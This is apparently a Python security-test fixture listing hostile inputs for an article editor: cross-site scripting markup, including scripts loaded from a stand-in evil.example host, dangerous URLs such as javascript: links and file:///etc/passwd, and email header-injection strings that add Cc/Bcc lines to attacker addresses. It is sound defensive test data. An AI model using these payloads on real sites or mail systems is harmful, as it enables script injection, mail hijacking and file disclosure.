"""A corpus of hostile inputs, written for these tests (OWASP-style kinds).

Article text, titles and URLs are untrusted: each list holds the kinds of
value an article's author could use to act on the editor's behalf (markup a
reader runs, a header a mail server obeys) or to crash a build. The security
tests run every entry through the real renderers and parsers.
"""

from __future__ import annotations

import base64


def _b64_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


#: Markup that a feed reader or browser would run or load if it stayed live.
MARKUP_VECTORS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert('x')>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<marquee onstart="alert(1)">hi</marquee>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<p>Fine <b>bold</b> and <i>italic</i></p>",
    "AT&T & Johnson & Johnson < 5 > 3",
    "Q&amp;A: what &quot;quotes&quot; mean",
    '<x onclick="alert(1)">tag soup</x>',
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
)

#: URLs that must never crash a build or become a live link.
URL_VECTORS: tuple[str, ...] = (
    "https://news.example:99999/story",
    "https://news.example:abc/story",
    "http://[::1/story",
    "http://[::1]:70000/",
    "https://news.example:-1/story",
    "https://[not-an-ip]/story",
    "http://news.example:0/",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//news.example/no-scheme",
    "https://",
    "https:///path-only",
    'https://news.example/a b<c>"d',
    "https://news.example/\x00nul",
    "https://user:pass@news.example:443/story?utm_source=x#top",
    "file:///etc/passwd",
)

#: Title text that tries to start a header of its own, encoded or not.
HEADER_VECTORS: tuple[str, ...] = (
    "=?utf-8?q?Harbour_vote=0D=0ACc:_evil@attacker.example?=",
    "=?utf-8?q?Ferry_news=0D=0AReply-To:_evil@attacker.example?=",
    _b64_word("Harbour vote\r\nBcc: evil@attacker.example"),
    "=?utf-8?q?Issue=0D=0ABcc:_evil@attacker.example?=",
    "=?UTF-8?Q?x=0ABcc:_evil@attacker.example?=",
    "=?utf-8?q?x=0DBcc:_evil@attacker.example?=",
    "=?iso-8859-1?q?x=0D=0ACc:_evil@attacker.example?=",
    "=?us-ascii?b?eA0KQ2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=",
    "=?utf-8?q?a=00b?=",
    "=?utf-8?q?=0D=0A=0D=0A<html>body_injection?=",
    "=?utf-8?q?a?= =?utf-8?q?=0D=0ACc:_evil@attacker.example?=",
    "x =?utf-8?q?=0D=0A?= Cc: evil@attacker.example",
    "=?utf-8*en?q?x=0D=0ACc:_evil@attacker.example?=",
    "=?utf-8?Q?=E2=80=A8Cc:_evil@attacker.example?=",
    "=?utf-8?q?=C2=85Cc:_evil@attacker.example?=",
    "=?utf-8?b?" + base64.b64encode(b"\xe2\x80\xa9Bcc: evil@attacker.example").decode() + "?=",
    "=?",
    "?=",
    "=?utf-8?q??=",
    "=?broken",
    "a=?utf-8?q?x?=b",
    "Harbour vote\r\nCc: evil@attacker.example",
    "Harbour vote\nBcc: evil@attacker.example",
    "Harbour vote\rReply-To: evil@attacker.example",
    "Harbour vote\r\n\r\n<html>body</html>",
    "Harbour vote\u2028Cc: evil@attacker.example",
    "Harbour vote\u2029Cc: evil@attacker.example",
    "Harbour vote\x85Cc: evil@attacker.example",
    "Harbour vote\x0bCc: evil@attacker.example",
    "Harbour vote\x0cCc: evil@attacker.example",
    "Harbour vote\x00Cc: evil@attacker.example",
    "Harbour vote\x1cCc: evil@attacker.example",
    "Harbour vote\x1eCc: evil@attacker.example",
    "Harbour vote\u202eelpmaxe.rekcatta@live :cC",
    "Harbour\tvote\t\tsplit by tabs",
    "Cc: evil@attacker.example",
    ": leading colon",
    "x" * 200,
    "word " * 60,
    "é" * 120,
    "漢字" * 50 + " =?utf-8?q?x?=",
    "🎉" * 40,
    "\ud800 lone surrogate",
)

#: Every character that must never reach a header as itself: C0, DEL, C1, the
#: Unicode line and paragraph separators.
CONTROL_CHARACTERS: tuple[str, ...] = (
    *(chr(c) for c in range(0x20)),
    "\x7f",
    *(chr(c) for c in range(0x80, 0xA0)),
    "\u2028",
    "\u2029",
)
